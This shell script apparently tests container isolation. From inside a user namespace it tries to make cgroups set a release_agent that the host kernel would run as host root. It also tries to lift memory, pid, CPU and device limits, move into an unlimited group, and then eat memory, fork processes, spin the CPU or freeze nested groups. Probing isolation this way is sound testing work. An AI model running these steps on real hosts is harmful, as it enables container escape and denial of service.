# Tries whatever root of a user namespace can to lift the limits of its control group, says what it could, and then
# takes more than they allow, or makes it hard to end.
#
#   unshare -U -r -m -C bash lift.sh memory|pids|cpu|freeze
#
# In a container or in namespaces that keep it from the machine's own groups and processes.
mount -t tmpfs scratch /mnt && cd /mnt || exit 99

# Each hierarchy mounted afresh, which shows what the cgroup namespace contains, writable.
while IFS=: read -r number names path; do
  mkdir "$number"
  case $names in
    "") mount -t cgroup2 group "$number" ;;
    name=*) mount -t cgroup -o "none,$names" group "$number" ;;
    *) mount -t cgroup -o "$names" group "$number" ;;
  esac || continue
  # A program that the host's kernel would run as the host's root.
  for change in "remount,release_agent=/mnt/agent" "remount,$names,release_agent=/mnt/agent"; do
    mount -o "$change" "/mnt/$number" && echo "release agent by $change"
  done
  (echo /mnt/agent > "$number/release_agent") && echo "release agent"
done < /proc/self/cgroup 2>/dev/null
mkdir new
mount -t cgroup -o none,name=mine,release_agent=/mnt/agent mine new 2>/dev/null && echo "release agent by a new hierarchy"

write() {
  for file in */"$1"; do
    [ -e "$file" ] && (echo "$2" > "$file") 2>/dev/null && echo "lifted $1"
  done
}
write memory.memsw.limit_in_bytes -1
write memory.limit_in_bytes -1
write memory.swap.max max
write memory.max max
write pids.max max
write cpu.cfs_quota_us -1
write cpu.max max
write devices.allow "a *:* rwm" # refused wherever the group above has less

# A group below, which no limit was set on.
for root in [0-9]*; do
  mkdir "$root/below" && for file in cpuset.mems cpuset.cpus; do
    [ -e "$root/$file" ] && cat "$root/$file" > "$root/below/$file"
  done
  echo $$ > "$root/below/cgroup.procs" && echo "moved"
done 2>/dev/null

case $1 in
  memory)
    head -c 200M /dev/zero | tail > /dev/null
    echo "memory ${PIPESTATUS[1]}"
    ;;
  pids)
    perl -e 'for (1 .. 60) { my $pid = fork; last unless defined $pid; $n++; if (!$pid) { sleep 1000; exit } }
             print "pids ", $n // 0, "\n"'
    ;;
  cpu)
    echo ready
    while :; do :; done &
    while :; do :; done
    ;;
  freeze)
    for root in [0-9]*; do
      mkdir "$root"/below/{1..50} "$root"/below/1/{1..50}
    done
    sleep 1000 &
    echo frozen
    for file in */below/freezer.state; do echo FROZEN > "$file"; done
    for file in */below/cgroup.freeze; do echo 1 > "$file"; done
    sleep 1000
    ;;
esac
